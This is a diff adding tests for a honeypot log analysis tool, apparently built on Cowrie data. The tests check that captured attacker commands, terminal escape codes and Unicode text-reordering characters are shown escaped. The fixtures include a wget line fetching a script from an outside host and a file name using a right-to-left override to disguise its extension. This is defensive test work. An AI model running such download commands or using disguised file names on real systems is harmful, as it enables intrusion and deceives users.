@@ -4,6 +4,9 @@
  * in them) is shown escaped in `analyze`'s table, never sent to the user's terminal.
  */
 import { describe, expect, test } from "bun:test"
+import { mkdtempSync, writeFileSync } from "node:fs"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
 import { renderCampaignTable } from "../../src/cli/campaignTable.ts"
 import type { Campaign } from "../../src/domain/Campaign.ts"
 import { printable } from "../../src/domain/printable.ts"
@@ -15,6 +18,28 @@ describe("printable", () => {
   test("control characters become \\xHH; other text, including non-ASCII, is kept", () => {
     expect(printable(`SSH-2.0-${ESC}[31mred${ESC}[0m\r\n\u0007\u009b`)).toBe("SSH-2.0-\\x1b[31mred\\x1b[0m\\x0d\\x0a\\x07\\x9b")
     expect(printable("root/пароль ü")).toBe("root/пароль ü")
+  })
+
+  test("characters that reorder or hide text become \\uHHHH; backslashes and quotes stay as typed", () => {
+    expect(printable("echo '\u0007bell' > /tmp/.marker_\u202eevil")).toBe("echo '\\x07bell' > /tmp/.marker_\\u202eevil")
+    expect(printable("a\u200bb\u2066c\ufeff")).toBe("a\\u200bb\\u2066c\\ufeff")
+    expect(printable(`echo -e '\\x67' "quoted"`)).toBe(`echo -e '\\x67' "quoted"`)
+  })
+
+  test("techniques shows command lines as the campaign table does", () => {
+    const dir = mkdtempSync(join(tmpdir(), "dshield-terminal-"))
+    const line = (session: string, input: string) =>
+      JSON.stringify({ eventid: "cowrie.command.input", session, src_ip: "192.0.2.7", timestamp: "2024-04-01T00:00:01.000000Z", input })
+    const connect = (session: string) =>
+      JSON.stringify({ eventid: "cowrie.session.connect", session, src_ip: "192.0.2.7", src_port: 4000, dst_ip: "198.51.100.1", dst_port: 22, protocol: "ssh", timestamp: "2024-04-01T00:00:00.000000Z" })
+    writeFileSync(join(dir, "log.json"), [connect("aa11"), line("aa11", `wget http://203.0.113.9/${ESC}[31mx.sh`), line("aa11", `echo "a\\b" > /tmp/.m_\u202eexe`)].join("\n"))
+    const run = Bun.spawnSync([process.execPath, join(import.meta.dir, "../../src/cli/main.ts"), "techniques", join(dir, "log.json")], { stdout: "pipe", stderr: "pipe" })
+    expect(run.exitCode).toBe(0)
+    const out = run.stdout.toString()
+    expect(out).toContain("wget http://203.0.113.9/\\x1b[31mx.sh")
+    expect(out).toContain(`echo "a\\b" > /tmp/.m_\\u202eexe`)
+    expect(out).not.toContain(ESC)
+    expect(out).not.toContain("\u202e")
   })
 
   test("the campaign table shows a hostile name and indicator escaped", () => {
